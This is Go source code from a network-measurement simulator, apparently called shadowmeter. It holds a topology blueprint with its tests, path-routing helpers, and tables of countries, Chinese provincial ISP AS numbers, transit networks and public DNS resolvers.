	return t.cnGateways[mod(h, len(t.cnGateways))]
}

// transitSegment picks 1-2 tier-1 hops for the global middle of a path.
func (t *Topology) transitSegment(h uint64) []*netsim.Router {
	k := 1 + mod(h>>8, 2)
	var out []*netsim.Router
	for i := 0; i < k; i++ {
		as := t.transit[mod(h>>(4*uint(i)), len(t.transit))]
		out = append(out, as.Routers[mod(h>>(9+uint(i)), len(as.Routers))])
	}
	return out
}

// mod reduces an unsigned hash into [0, n) without sign traps.
func mod(h uint64, n int) int { return int(h % uint64(n)) }

func dedupeRouters(hops []*netsim.Router) []*netsim.Router {
	out := hops[:0]
	seen := make(map[*netsim.Router]bool, len(hops))
	for _, r := range hops {
		if seen[r] {
			continue
		}
		seen[r] = true
		out = append(out, r)
	}
	return out
}

func pairHash(a, b int) uint64 {
	h := uint64(a)*0x9E3779B97F4A7C15 ^ uint64(b)*0xC2B2AE3D27D4EB4F
	h ^= h >> 29
	h *= 0xBF58476D1CE4E5B9
	h ^= h >> 32
	return h
}
