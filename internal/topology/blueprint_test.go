package topology

import (
	"fmt"
	"sync"
	"testing"

	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

// sameAS asserts structural equality of one AS across two worlds,
// including the seed-dependent ICMPSilent flags.
func sameAS(t *testing.T, a, b *AS) {
	t.Helper()
	if a.ASN != b.ASN || a.Name != b.Name || a.Country != b.Country ||
		a.Province != b.Province || a.Hosting != b.Hosting {
		t.Fatalf("AS mismatch: %+v vs %+v", a, b)
	}
	ap, al := a.Prefix()
	bp, bl := b.Prefix()
	if ap != bp || al != bl {
		t.Fatalf("AS%d prefix mismatch: %v/%d vs %v/%d", a.ASN, ap, al, bp, bl)
	}
	if len(a.Routers) != len(b.Routers) {
		t.Fatalf("AS%d router count %d vs %d", a.ASN, len(a.Routers), len(b.Routers))
	}
	for i := range a.Routers {
		ra, rb := a.Routers[i], b.Routers[i]
		if ra.Name != rb.Name || ra.Addr != rb.Addr || ra.ICMPSilent != rb.ICMPSilent {
			t.Fatalf("AS%d router %d mismatch: %+v vs %+v", a.ASN, i, ra, rb)
		}
	}
}

// TestBlueprintMatchesColdBuild is the blueprint's core contract: for any
// seed, Instantiate must be observationally identical to a cold Build —
// same ASes, routers, ICMPSilent draws, geo answers, paths, and the same
// state for every post-build mutation (stub ASes, service ASes, host
// allocation).
func TestBlueprintMatchesColdBuild(t *testing.T) {
	bp := NewBlueprint(Config{})
	for _, seed := range []int64{1, 7, 12345} {
		cold := Build(Config{Seed: seed})
		inst := bp.Instantiate(seed)

		if cold.NumASes() != inst.NumASes() {
			t.Fatalf("seed %d: NumASes %d vs %d", seed, cold.NumASes(), inst.NumASes())
		}
		for _, country := range cold.Countries() {
			ca, ia := cold.CountryASes(country), inst.CountryASes(country)
			if len(ca) != len(ia) {
				t.Fatalf("seed %d country %s: %d vs %d ASes", seed, country, len(ca), len(ia))
			}
			for i := range ca {
				sameAS(t, ca[i], ia[i])
			}
		}

		// Post-build mutations replay identically: the rng must sit at the
		// same point, the allocators at the same counters.
		cs := cold.NewStubAS("parity-check", "DE", true)
		is := inst.NewStubAS("parity-check", "DE", true)
		sameAS(t, cs, is)
		for i := 0; i < 5; i++ {
			if ca, ia := cold.AllocHostAddr(cs), inst.AllocHostAddr(is); ca != ia {
				t.Fatalf("seed %d: AllocHostAddr %v vs %v", seed, ca, ia)
			}
		}
		addr := cs.Routers[0].Addr
		if ci, _ := cold.Geo.Lookup(addr); ci != mustLookup(t, inst, addr) {
			t.Fatalf("seed %d: geo overlay lookup diverges for %v", seed, addr)
		}

		// Paths resolve to the same hop sequences (by name — the router
		// objects are intentionally distinct per world).
		vp := cold.HostingASes("US")[0]
		dsts := []*AS{cold.ChinanetBackbone(), cold.ProvincialAS("Jiangsu"), cs}
		vpI := inst.HostingASes("US")[0]
		dstsI := []*AS{inst.ChinanetBackbone(), inst.ProvincialAS("Jiangsu"), is}
		for d := range dsts {
			pc := cold.Path(vp.Routers[0].Addr, dsts[d].Routers[0].Addr)
			pi := inst.Path(vpI.Routers[0].Addr, dstsI[d].Routers[0].Addr)
			if fmt.Sprint(routerNames(pc)) != fmt.Sprint(routerNames(pi)) {
				t.Fatalf("seed %d: path %d mismatch:\n%v\n%v", seed, d, routerNames(pc), routerNames(pi))
			}
		}
	}
}

func mustLookup(t *testing.T, topo *Topology, addr wire.Addr) interface{} {
	t.Helper()
	info, ok := topo.Geo.Lookup(addr)
	if !ok {
		t.Fatalf("no geo entry for %v", addr)
	}
	return info
}

func routerNames(p []*netsim.Router) []string {
	out := make([]string, len(p))
	for i, r := range p {
		out[i] = r.Name
	}
	return out
}

// TestBlueprintPathCacheConcurrent exercises the shared structural path
// cache from many worlds at once — the scenario the race detector must
// bless: concurrent readers and first-writer publication with no per-lookup
// mutex, every world resolving identical hop sequences against its own
// router objects.
func TestBlueprintPathCacheConcurrent(t *testing.T) {
	bp := NewBlueprint(Config{})
	ref := Build(Config{Seed: 1})
	refPaths := make(map[[2]int]string)
	srcs := append(ref.HostingASes("US"), ref.HostingASes("CN")...)
	dsts := append(ref.CountryASes("CN")[:8], ref.TransitASes()...)
	for _, s := range srcs {
		for _, d := range dsts {
			key := [2]int{s.ASN, d.ASN}
			refPaths[key] = fmt.Sprint(routerNames(ref.Path(s.Routers[0].Addr, d.Routers[0].Addr)))
		}
	}

	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			topo := bp.Instantiate(seed)
			srcs := append(topo.HostingASes("US"), topo.HostingASes("CN")...)
			dsts := append(topo.CountryASes("CN")[:8], topo.TransitASes()...)
			for _, s := range srcs {
				for _, d := range dsts {
					got := fmt.Sprint(routerNames(topo.Path(s.Routers[0].Addr, d.Routers[0].Addr)))
					if want := refPaths[[2]int{s.ASN, d.ASN}]; got != want {
						errs <- fmt.Errorf("seed %d AS%d->AS%d: %s != %s", seed, s.ASN, d.ASN, got, want)
						return
					}
				}
			}
		}(int64(w + 1))
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}
