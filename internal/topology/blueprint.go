package topology

import (
	"math/rand"
	"sync"

	"shadowmeter/internal/geodb"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

// Blueprint is the immutable, concurrency-safe skeleton of a built
// topology: AS records, router names and addresses, the frozen geo trie,
// and the allocator state — everything topology.Build produces that does
// not depend on the seed. Building one per campaign and calling
// Instantiate per trial skips the fmt.Sprintf naming, map churn, and
// prefix registration that otherwise re-run N times, while staying
// byte-identical to a cold Build: the only seed-dependent outputs of Build
// are the per-router ICMPSilent draws, which Instantiate replays from a
// trial-seeded rng in the recorded construction order.
//
// All fields except paths are written once in NewBlueprint and only read
// afterwards; paths is a sync.Map, so the whole structure is safe to share
// across any number of concurrently-instantiated worlds. The crossworld
// analyzer enforces the write-once contract: field writes outside the
// //shadowlint:sharedinit constructor are findings.
//
//shadowlint:shared
type Blueprint struct {
	geo   *geodb.DB // frozen; worlds layer private overlays on top
	specs []asSpec  // AS construction order

	births []specBirth // router construction order (rng draw order)

	backboneIdx   int
	transitIdx    []int
	provincialIdx map[string]int // province name -> specs index
	gatewayIdx    []int          // router indices within the backbone spec

	native map[int]bool // ASNs present at Build time

	next16   uint32
	taken16  map[uint32]bool
	nextASN  int
	silent   float64
	routersN int

	// paths caches structural hop sequences per native AS pair, shared by
	// every world instantiated from this blueprint. Values are immutable
	// once stored; sync.Map keeps reads lock-free on the Path miss path.
	paths sync.Map // [2]int -> []pathHop
}

// pathHop is one structural hop: a router identified by AS number and its
// stable index in that AS's router fleet.
type pathHop struct {
	asn, idx int
}

// asSpec snapshots one AS in construction order.
type asSpec struct {
	asn       int
	name      string
	country   string
	province  string
	hosting   bool
	prefix    wire.Addr
	prefixLen int
	routers   []routerSpec
}

// routerSpec snapshots one router (ICMPSilent is seed-dependent and drawn
// at Instantiate time instead).
type routerSpec struct {
	name string
	addr wire.Addr
}

// specBirth is one addRouter call in construction order, by spec index.
type specBirth struct {
	spec, idx int
}

// NewBlueprint builds the campaign skeleton once. cfg.Seed is irrelevant to
// the snapshot (the seed only affects ICMPSilent draws, replayed per
// trial); the structural knobs — CountryCount, HostingASesPerCountry,
// RoutersPerAS, ICMPSilentFraction — are captured.
//
//shadowlint:sharedinit
func NewBlueprint(cfg Config) *Blueprint {
	t := Build(cfg)
	bp := &Blueprint{
		geo:           t.Geo,
		provincialIdx: make(map[string]int),
		native:        make(map[int]bool, len(t.buildOrder)),
		next16:        t.next16,
		taken16:       make(map[uint32]bool, len(t.taken16)),
		nextASN:       t.nextASN,
		silent:        t.silent,
		routersN:      t.routersN,
		backboneIdx:   -1,
	}
	bp.geo.Freeze()
	for k := range t.taken16 {
		bp.taken16[k] = true
	}

	specIdx := make(map[*AS]int, len(t.buildOrder))
	for i, as := range t.buildOrder {
		spec := asSpec{
			asn: as.ASN, name: as.Name, country: as.Country,
			province: as.Province, hosting: as.Hosting,
			prefix: as.prefix, prefixLen: as.prefixLen,
			routers: make([]routerSpec, len(as.Routers)),
		}
		for j, r := range as.Routers {
			spec.routers[j] = routerSpec{name: r.Name, addr: r.Addr}
		}
		bp.specs = append(bp.specs, spec)
		bp.native[as.ASN] = true
		specIdx[as] = i
		if as == t.cnBackbone {
			bp.backboneIdx = i
		}
	}
	for _, as := range t.transit {
		bp.transitIdx = append(bp.transitIdx, specIdx[as])
	}
	for prov, as := range t.cnProvincial {
		bp.provincialIdx[prov] = specIdx[as]
	}
	bp.gatewayIdx = append(bp.gatewayIdx, t.cnGatewayIdx...)
	for _, b := range t.routerBirths {
		bp.births = append(bp.births, specBirth{spec: specIdx[b.as], idx: b.idx})
	}
	return bp
}

// Instantiate materializes a world-private Topology from the blueprint.
// Only mutable state is allocated fresh — AS structs (their address pools
// and Province fields are written post-build), router structs (tap lists
// attach per world), the geo overlay, the allocators, and an rng advanced
// exactly as a cold Build(Config{Seed: seed}) would leave it. The result is
// indistinguishable from a cold Build with the same seed.
//
//shadowlint:trialpath
func (bp *Blueprint) Instantiate(seed int64) *Topology {
	t := &Topology{
		Geo:          bp.geo.Overlay(),
		ases:         make(map[int]*AS, len(bp.specs)*2),
		byCountry:    make(map[string][]*AS, 96),
		cnProvincial: make(map[string]*AS, len(bp.provincialIdx)),
		taken16:      make(map[uint32]bool, len(bp.taken16)*2),
		next16:       bp.next16,
		nextASN:      bp.nextASN,
		silent:       bp.silent,
		routersN:     bp.routersN,
		rng:          rand.New(rand.NewSource(seed)),
		pathCache:    make(map[[2]int][]*netsim.Router),
		bp:           bp,
	}
	for k := range bp.taken16 {
		t.taken16[k] = true
	}
	ases := make([]*AS, len(bp.specs))
	for i := range bp.specs {
		spec := &bp.specs[i]
		as := &AS{
			ASN: spec.asn, Name: spec.name, Country: spec.country,
			Province: spec.province, Hosting: spec.hosting,
			prefix: spec.prefix, prefixLen: spec.prefixLen,
			Routers: make([]*netsim.Router, len(spec.routers)),
			used:    make(map[wire.Addr]bool, len(spec.routers)+1),
		}
		for j := range spec.routers {
			rs := &spec.routers[j]
			as.Routers[j] = &netsim.Router{Name: rs.name, Addr: rs.addr}
			as.used[rs.addr] = true
		}
		ases[i] = as
		t.ases[as.ASN] = as
		t.byCountry[as.Country] = append(t.byCountry[as.Country], as)
	}
	// Replay the seed-dependent draws in the recorded construction order —
	// one Float64 per router, interleaved across ASes exactly as Build
	// interleaves them — so both the flags and the rng's final state match
	// a cold build.
	for _, b := range bp.births {
		ases[b.spec].Routers[b.idx].ICMPSilent = t.rng.Float64() < bp.silent
	}
	if bp.backboneIdx >= 0 {
		t.cnBackbone = ases[bp.backboneIdx]
		for _, ri := range bp.gatewayIdx {
			t.cnGateways = append(t.cnGateways, t.cnBackbone.Routers[ri])
		}
	}
	for _, i := range bp.transitIdx {
		t.transit = append(t.transit, ases[i])
	}
	for prov, i := range bp.provincialIdx {
		t.cnProvincial[prov] = ases[i]
	}
	return t
}

// InstantiateOrBuild instantiates from the blueprint when one is present,
// and falls back to a cold Build otherwise — the two produce byte-identical
// worlds for the same seed, so callers can treat the blueprint as a pure
// accelerator. Safe on a nil receiver.
//
//shadowlint:trialpath
func (bp *Blueprint) InstantiateOrBuild(seed int64) *Topology {
	if bp == nil {
		return Build(Config{Seed: seed})
	}
	return bp.Instantiate(seed)
}

// loadPath fetches the shared structural path for a native AS pair.
func (bp *Blueprint) loadPath(key [2]int) ([]pathHop, bool) {
	v, ok := bp.paths.Load(key)
	if !ok {
		return nil, false
	}
	return v.([]pathHop), true
}

// storePath publishes a structural path computed by one world. First
// writer wins; every world computes identical hops for a native pair, so
// the race is benign.
func (bp *Blueprint) storePath(key [2]int, hops []pathHop) {
	if len(hops) == 0 {
		return
	}
	bp.paths.LoadOrStore(key, hops)
}
