package topology

import (
	"testing"

	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

func build(t *testing.T) *Topology {
	t.Helper()
	return Build(Config{Seed: 42})
}

func TestWorldShape(t *testing.T) {
	topo := build(t)
	countries := topo.Countries()
	if len(countries) != 82 {
		t.Errorf("countries = %d, want 82", len(countries))
	}
	if topo.AS(ASNChinanetBackbone) == nil {
		t.Fatal("missing CHINANET backbone")
	}
	if topo.AS(ASNGoogle) == nil {
		t.Fatal("missing Google AS")
	}
	if got := topo.ProvincialAS("Jiangsu"); got == nil || got.ASN != 137697 {
		t.Errorf("Jiangsu provincial = %v", got)
	}
	if n := topo.NumASes(); n < 150 {
		t.Errorf("NumASes = %d, want >= 150", n)
	}
}

func TestDeterminism(t *testing.T) {
	a := Build(Config{Seed: 7})
	b := Build(Config{Seed: 7})
	asA, asB := a.HostingASes("DE"), b.HostingASes("DE")
	if len(asA) == 0 || len(asA) != len(asB) {
		t.Fatalf("hosting ASes: %d vs %d", len(asA), len(asB))
	}
	for i := range asA {
		if asA[i].ASN != asB[i].ASN || asA[i].prefix != asB[i].prefix {
			t.Errorf("AS %d differs across builds", i)
		}
	}
	// Paths must be identical too.
	srcA := a.AllocHostAddr(asA[0])
	srcB := b.AllocHostAddr(asB[0])
	if srcA != srcB {
		t.Fatalf("allocation differs: %v vs %v", srcA, srcB)
	}
	dstA := a.AllocHostAddr(a.AS(ASNGoogle))
	dstB := b.AllocHostAddr(b.AS(ASNGoogle))
	pA, pB := a.Path(srcA, dstA), b.Path(srcB, dstB)
	if len(pA) != len(pB) {
		t.Fatalf("path lengths differ: %d vs %d", len(pA), len(pB))
	}
	for i := range pA {
		if pA[i].Addr != pB[i].Addr {
			t.Errorf("hop %d differs: %v vs %v", i, pA[i].Addr, pB[i].Addr)
		}
	}
}

func TestAllocHostAddrUniqueAndInPrefix(t *testing.T) {
	topo := build(t)
	as := topo.HostingASes("US")[0]
	seen := make(map[wire.Addr]bool)
	for i := 0; i < 1000; i++ {
		a := topo.AllocHostAddr(as)
		if seen[a] {
			t.Fatalf("duplicate address %v", a)
		}
		seen[a] = true
		if a[0] != as.prefix[0] || a[1] != as.prefix[1] {
			t.Fatalf("address %v outside prefix %v/16", a, as.prefix)
		}
		if info, ok := topo.Geo.Lookup(a); !ok || info.ASN != as.ASN {
			t.Fatalf("geo lookup of %v = %+v", a, info)
		}
	}
}

func TestServiceAS(t *testing.T) {
	topo := build(t)
	yandex := wire.MustParseAddr("77.88.8.8")
	as := topo.AddServiceAS(13238, "Yandex", "RU", yandex, true)
	if as == nil || len(as.Routers) == 0 {
		t.Fatal("service AS not created")
	}
	info, ok := topo.Geo.Lookup(yandex)
	if !ok || info.ASN != 13238 || info.Country != "RU" {
		t.Errorf("lookup = %+v, %v", info, ok)
	}
	// Second registration of another prefix for the same operator (anycast).
	us := wire.MustParseAddr("77.88.110.1")
	as2 := topo.AddServiceAS(13238, "Yandex", "RU", us, true)
	if as2 != as {
		t.Error("same ASN should return the same AS")
	}
	// Host allocation must not hand out the service address.
	for i := 0; i < 100; i++ {
		if topo.AllocHostAddr(as) == yandex {
			t.Fatal("service address allocated as host")
		}
	}
}

func TestPathProperties(t *testing.T) {
	topo := build(t)
	de := topo.HostingASes("DE")[0]
	us := topo.HostingASes("US")[0]
	src := topo.AllocHostAddr(de)
	dst := topo.AllocHostAddr(us)
	p := topo.Path(src, dst)
	if len(p) < 4 || len(p) > 16 {
		t.Fatalf("path length = %d", len(p))
	}
	// First hop in source AS, last in destination AS.
	if got := topo.ASOf(p[0].Addr); got != de {
		t.Errorf("first hop in %v", got)
	}
	if got := topo.ASOf(p[len(p)-1].Addr); got != us {
		t.Errorf("last hop in %v", got)
	}
	// No repeated routers.
	seen := make(map[*netsim.Router]bool)
	for _, r := range p {
		if seen[r] {
			t.Errorf("router %s repeated", r.Name)
		}
		seen[r] = true
	}
	// Cached result is identical.
	p2 := topo.Path(src, dst)
	if len(p2) != len(p) {
		t.Error("cache returned different path")
	}
}

func TestCNPathsTraverseBackbone(t *testing.T) {
	topo := build(t)
	cnAS := topo.HostingASes("CN")
	if len(cnAS) == 0 {
		t.Fatal("no CN hosting ASes")
	}
	src := topo.AllocHostAddr(cnAS[0])
	usAS := topo.HostingASes("US")[0]
	dst := topo.AllocHostAddr(usAS)
	p := topo.Path(src, dst)
	foundBackbone := false
	for _, r := range p {
		if as := topo.ASOf(r.Addr); as != nil && as.ASN == ASNChinanetBackbone {
			foundBackbone = true
		}
	}
	if !foundBackbone {
		t.Error("CN->US path does not traverse CHINANET backbone")
	}
}

func TestForeignToCNTraversesGateway(t *testing.T) {
	topo := build(t)
	src := topo.AllocHostAddr(topo.HostingASes("DE")[0])
	dst114 := wire.MustParseAddr("114.114.114.114")
	topo.AddServiceAS(174000, "114DNS", "CN", dst114, true)
	p := topo.Path(src, dst114)
	if p == nil {
		t.Fatal("no path to 114DNS")
	}
	backbone := false
	for _, r := range p {
		if as := topo.ASOf(r.Addr); as != nil && as.ASN == ASNChinanetBackbone {
			backbone = true
		}
	}
	if !backbone {
		t.Error("DE->CN path misses the backbone")
	}
}

func TestIntraASPath(t *testing.T) {
	topo := build(t)
	as := topo.HostingASes("FR")[0]
	a := topo.AllocHostAddr(as)
	b := topo.AllocHostAddr(as)
	p := topo.Path(a, b)
	if len(p) != 1 {
		t.Errorf("intra-AS path length = %d, want 1", len(p))
	}
}

func TestPathUnknownAddr(t *testing.T) {
	topo := build(t)
	if p := topo.Path(wire.MustParseAddr("250.1.2.3"), wire.MustParseAddr("250.4.5.6")); p != nil {
		t.Error("unknown addresses should have no path")
	}
}

func TestCountryCountScaling(t *testing.T) {
	topo := Build(Config{Seed: 1, CountryCount: 10})
	countries := topo.Countries()
	found := false
	for _, c := range countries {
		if c == "CN" {
			found = true
		}
	}
	if !found {
		t.Error("CN must always be present")
	}
	// 10 requested + CN + countries contributed by the fixed transit pool.
	if len(countries) > 10+1+len(GlobalTransit) {
		t.Errorf("countries = %d, want <= %d", len(countries), 11+len(GlobalTransit))
	}
	if len(topo.HostingASes("US")) == 0 || len(topo.HostingASes("DE")) == 0 {
		t.Error("first-10 countries should have hosting ASes")
	}
}

func TestSomeRoutersICMPSilent(t *testing.T) {
	topo := Build(Config{Seed: 3, ICMPSilentFraction: 0.5})
	silent, total := 0, 0
	for _, c := range topo.Countries() {
		for _, as := range topo.CountryASes(c) {
			for _, r := range as.Routers {
				total++
				if r.ICMPSilent {
					silent++
				}
			}
		}
	}
	if silent == 0 || silent == total {
		t.Errorf("silent = %d/%d, want a mix", silent, total)
	}
}

func BenchmarkPathCached(b *testing.B) {
	topo := Build(Config{Seed: 42})
	src := topo.AllocHostAddr(topo.HostingASes("DE")[0])
	dst := topo.AllocHostAddr(topo.HostingASes("US")[0])
	topo.Path(src, dst)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		topo.Path(src, dst)
	}
}

func BenchmarkBuildWorld(b *testing.B) {
	for i := 0; i < b.N; i++ {
		Build(Config{Seed: int64(i)})
	}
}

func TestPathInvariantsProperty(t *testing.T) {
	topo := Build(Config{Seed: 99})
	countries := []string{"US", "DE", "GB", "FR", "JP", "CN", "BR", "SG"}
	// Collect one host per country.
	hosts := make(map[string]wire.Addr)
	for _, c := range countries {
		if as := topo.HostingASes(c); len(as) > 0 {
			hosts[c] = topo.AllocHostAddr(as[0])
		}
	}
	for _, src := range countries {
		for _, dst := range countries {
			a, okA := hosts[src]
			b, okB := hosts[dst]
			if !okA || !okB || a == b {
				continue
			}
			p := topo.Path(a, b)
			if p == nil {
				t.Fatalf("no path %s->%s", src, dst)
			}
			// Invariant: bounded length.
			if len(p) < 1 || len(p) > 16 {
				t.Errorf("%s->%s length %d", src, dst, len(p))
			}
			// Invariant: loop-free.
			seen := make(map[*netsim.Router]bool)
			for _, r := range p {
				if seen[r] {
					t.Errorf("%s->%s revisits %s", src, dst, r.Name)
				}
				seen[r] = true
			}
			// Invariant: every hop belongs to a registered AS.
			for _, r := range p {
				if topo.ASOf(r.Addr) == nil {
					t.Errorf("%s->%s hop %v in no AS", src, dst, r.Addr)
				}
			}
			// Invariant: stable across repeated queries.
			p2 := topo.Path(a, b)
			if len(p2) != len(p) {
				t.Errorf("%s->%s path unstable", src, dst)
			}
			// Invariant: cross-border CN paths traverse the backbone.
			crossCN := (src == "CN") != (dst == "CN")
			if crossCN {
				found := false
				for _, r := range p {
					if as := topo.ASOf(r.Addr); as != nil && as.ASN == ASNChinanetBackbone {
						found = true
					}
				}
				if !found {
					t.Errorf("%s->%s misses the CN backbone", src, dst)
				}
			}
		}
	}
}
