package topology

// Country is one entry of the world table. Weight steers how many vantage
// points the platform builder places there, loosely following the
// distribution of commercial VPN presence.
type Country struct {
	Code   string // ISO 3166-1 alpha-2
	Name   string
	Weight int
}

// Countries is the 82-country world of the experiment (81 global countries
// plus CN, matching Table 1's coverage).
var Countries = []Country{
	{"US", "United States", 10}, {"DE", "Germany", 8}, {"GB", "United Kingdom", 7},
	{"FR", "France", 6}, {"NL", "Netherlands", 6}, {"CA", "Canada", 6},
	{"SG", "Singapore", 6}, {"JP", "Japan", 5}, {"AU", "Australia", 5},
	{"CH", "Switzerland", 4}, {"SE", "Sweden", 4}, {"RU", "Russia", 4},
	{"BR", "Brazil", 4}, {"IN", "India", 4}, {"KR", "South Korea", 4},
	{"HK", "Hong Kong", 4}, {"TW", "Taiwan", 3}, {"IT", "Italy", 3},
	{"ES", "Spain", 3}, {"PL", "Poland", 3}, {"RO", "Romania", 3},
	{"CZ", "Czechia", 3}, {"AT", "Austria", 3}, {"BE", "Belgium", 3},
	{"DK", "Denmark", 3}, {"NO", "Norway", 3}, {"FI", "Finland", 3},
	{"IE", "Ireland", 3}, {"PT", "Portugal", 2}, {"GR", "Greece", 2},
	{"HU", "Hungary", 2}, {"BG", "Bulgaria", 2}, {"UA", "Ukraine", 2},
	{"TR", "Turkey", 2}, {"IL", "Israel", 2}, {"AE", "UAE", 2},
	{"SA", "Saudi Arabia", 2}, {"ZA", "South Africa", 2}, {"EG", "Egypt", 2},
	{"NG", "Nigeria", 2}, {"KE", "Kenya", 2}, {"MX", "Mexico", 2},
	{"AR", "Argentina", 2}, {"CL", "Chile", 2}, {"CO", "Colombia", 2},
	{"PE", "Peru", 2}, {"VE", "Venezuela", 1}, {"TH", "Thailand", 2},
	{"VN", "Vietnam", 2}, {"MY", "Malaysia", 2}, {"ID", "Indonesia", 2},
	{"PH", "Philippines", 2}, {"NZ", "New Zealand", 2}, {"SK", "Slovakia", 1},
	{"SI", "Slovenia", 1}, {"HR", "Croatia", 1}, {"RS", "Serbia", 1},
	{"EE", "Estonia", 1}, {"LV", "Latvia", 1}, {"LT", "Lithuania", 1},
	{"LU", "Luxembourg", 1}, {"IS", "Iceland", 1}, {"MT", "Malta", 1},
	{"CY", "Cyprus", 1}, {"MD", "Moldova", 1}, {"GE", "Georgia", 1},
	{"AM", "Armenia", 1}, {"AZ", "Azerbaijan", 1}, {"KZ", "Kazakhstan", 1},
	{"PK", "Pakistan", 1}, {"BD", "Bangladesh", 1}, {"LK", "Sri Lanka", 1},
	{"NP", "Nepal", 1}, {"MM", "Myanmar", 1}, {"KH", "Cambodia", 1},
	{"MA", "Morocco", 1}, {"TN", "Tunisia", 1}, {"GH", "Ghana", 1},
	{"AD", "Andorra", 1}, {"PA", "Panama", 1}, {"CR", "Costa Rica", 1},
	{"CN", "China", 0}, // VP placement in CN is driven by the province table
}

// CNProvince is one mainland-China province with its provincial ISP AS.
type CNProvince struct {
	Name   string
	ASN    int
	ASName string
}

// CNProvinces covers 30 of 31 mainland provinces (Table 1). Provinces that
// appear in the paper's observer tables keep their real-world AS numbers
// (AS58563 Hubei, AS137697/AS23650 Jiangsu, AS4808 Beijing Unicom, AS4812
// Shanghai); the rest receive synthetic provincial ASNs.
var CNProvinces = []CNProvince{
	{"Beijing", 4808, "China Unicom Beijing Province Network"},
	{"Shanghai", 4812, "China Telecom (Group)"},
	{"Jiangsu", 137697, "CHINATELECOM JiangSu"},
	{"Hubei", 58563, "CHINANET Hubei province network"},
	{"Guangdong", 58466, "CHINANET Guangdong province network"},
	{"Zhejiang", 58461, "CHINANET Zhejiang province network"},
	{"Shandong", 58542, "CHINANET Shandong province network"},
	{"Sichuan", 38283, "CHINANET Sichuan province network"},
	{"Fujian", 133774, "CHINANET Fujian province network"},
	{"Hunan", 63838, "CHINANET Hunan province network"},
	{"Henan", 63835, "CHINANET Henan province network"},
	{"Hebei", 63839, "CHINANET Hebei province network"},
	{"Anhui", 63840, "CHINANET Anhui province network"},
	{"Liaoning", 63841, "CHINANET Liaoning province network"},
	{"Shaanxi", 63842, "CHINANET Shaanxi province network"},
	{"Chongqing", 63843, "CHINANET Chongqing province network"},
	{"Tianjin", 63844, "CHINANET Tianjin province network"},
	{"Yunnan", 63845, "CHINANET Yunnan province network"},
	{"Guangxi", 63846, "CHINANET Guangxi province network"},
	{"Jiangxi", 63847, "CHINANET Jiangxi province network"},
	{"Shanxi", 63848, "CHINANET Shanxi province network"},
	{"Heilongjiang", 63849, "CHINANET Heilongjiang province network"},
	{"Jilin", 63850, "CHINANET Jilin province network"},
	{"Guizhou", 63851, "CHINANET Guizhou province network"},
	{"Gansu", 63852, "CHINANET Gansu province network"},
	{"Inner Mongolia", 63853, "CHINANET Inner Mongolia network"},
	{"Xinjiang", 63854, "CHINANET Xinjiang province network"},
	{"Hainan", 63855, "CHINANET Hainan province network"},
	{"Ningxia", 63856, "CHINANET Ningxia province network"},
	{"Qinghai", 63857, "CHINANET Qinghai province network"},
}

// Backbone and transit AS identities.
const (
	ASNChinanetBackbone = 4134   // CHINANET-BACKBONE
	ASNJiangsuBackbone  = 23650  // CHINANET jiangsu backbone
	ASNGoogle           = 15169  // Google (origin of many unsolicited DNS queries)
	ASNHostRoyale       = 203020 // HostRoyale Technologies Pvt Ltd
	ASNZenlayer         = 21859  // Zenlayer Inc
	ASNConstantContact  = 40444  // Constant Contact (US observer AS, §5.2)
	ASNRogers           = 29988  // Rogers Communications (CA observer AS, §5.2)
)

// transitAS describes one tier-1 style global transit network.
type transitAS struct {
	ASN     int
	Name    string
	Country string
}

// GlobalTransit is the tier-1 pool global paths are drawn from.
var GlobalTransit = []transitAS{
	{3356, "Level 3 Parent, LLC", "US"},
	{174, "Cogent Communications", "US"},
	{2914, "NTT America", "US"},
	{1299, "Arelion (Telia Carrier)", "SE"},
	{3257, "GTT Communications", "US"},
	{6939, "Hurricane Electric", "US"},
	{6453, "TATA Communications", "IN"},
	{3491, "PCCW Global", "HK"},
	{5511, "Orange International Carriers", "FR"},
	{6762, "Telecom Italia Sparkle", "IT"},
	{ASNZenlayer, "Zenlayer Inc", "US"},
	{ASNHostRoyale, "HostRoyale Technologies Pvt Ltd", "IN"},
	{ASNConstantContact, "Constant Contact", "US"},
	{ASNRogers, "Rogers Communications", "CA"},
}
