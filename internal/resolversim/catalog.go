package resolversim

import "shadowmeter/internal/wire"

// PublicResolver describes one entry of the paper's Table 4.
type PublicResolver struct {
	Name    string
	Addr    wire.Addr
	Country string // operator headquarters / primary deployment
	ASN     int
	ASName  string
}

// PublicResolvers is the 20-resolver destination list of Table 4.
var PublicResolvers = []PublicResolver{
	{"Cloudflare", wire.MustParseAddr("1.1.1.1"), "US", 13335, "Cloudflare, Inc."},
	{"CNNIC", wire.MustParseAddr("1.2.4.8"), "CN", 24151, "CNNIC"},
	{"DNSPAI", wire.MustParseAddr("101.226.4.6"), "CN", 4812, "China Telecom (Group)"},
	{"DNSPod", wire.MustParseAddr("119.29.29.29"), "CN", 45090, "Tencent Cloud"},
	{"DNS.Watch", wire.MustParseAddr("84.200.69.80"), "DE", 60679, "DNS.WATCH"},
	{"Oracle Dyn", wire.MustParseAddr("216.146.35.35"), "US", 33517, "Dynamic Network Services"},
	{"Google", wire.MustParseAddr("8.8.8.8"), "US", 15169, "Google LLC"},
	{"Hurricane", wire.MustParseAddr("74.82.42.42"), "US", 6939, "Hurricane Electric"},
	{"Level3", wire.MustParseAddr("209.244.0.3"), "US", 3356, "Level 3 Parent, LLC"},
	{"VERCARA", wire.MustParseAddr("156.154.70.1"), "US", 12008, "Vercara (Neustar)"},
	{"OneDNS", wire.MustParseAddr("117.50.10.10"), "CN", 58879, "Shanghai Anchang Network"},
	{"OpenDNS", wire.MustParseAddr("208.67.222.222"), "US", 36692, "Cisco OpenDNS"},
	{"Open NIC", wire.MustParseAddr("217.160.166.161"), "DE", 8560, "IONOS SE"},
	{"Quad9", wire.MustParseAddr("9.9.9.9"), "US", 19281, "Quad9"},
	{"Yandex", wire.MustParseAddr("77.88.8.8"), "RU", 13238, "Yandex LLC"},
	{"SafeDNS", wire.MustParseAddr("195.46.39.39"), "RU", 57926, "SafeDNS"},
	{"Freenom", wire.MustParseAddr("80.80.80.80"), "NL", 206776, "Freenom World"},
